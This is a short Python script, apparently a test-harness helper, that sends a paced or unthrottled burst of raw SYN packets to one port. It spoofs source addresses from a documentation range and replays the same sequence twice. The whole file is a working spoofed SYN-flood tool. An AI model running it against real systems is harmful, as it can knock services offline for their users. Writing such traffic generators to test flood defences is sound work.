# SYNs to one port, from addresses of nobody, and all of them once more: address, port, how many, and how many a second (otherwise as fast as they go). Begins when it is told a line.
import random, socket, struct, sys, time

to, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
print("ready", flush=True)
sys.stdin.readline()
pace = int(sys.argv[4]) if len(sys.argv) > 4 else 0
begun = time.monotonic()
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


for i in range(count):
    if pace > 0 and i % 4 == 0:
        time.sleep(max(0, begun + i / pace - time.monotonic()))
    if i % (count // 2) == 0:
        numbers = random.Random(1)
    source = bytes([203, 0, 113, numbers.randrange(1, 255)])
    target = socket.inet_aton(to)
    tcp = struct.pack("!HHIIBBHHH", numbers.randrange(1024, 65536), port, numbers.randrange(1 << 32), 0, 0x50, 2, 1024, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    out.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target) + tcp, (to, 0))
print("sent", flush=True)
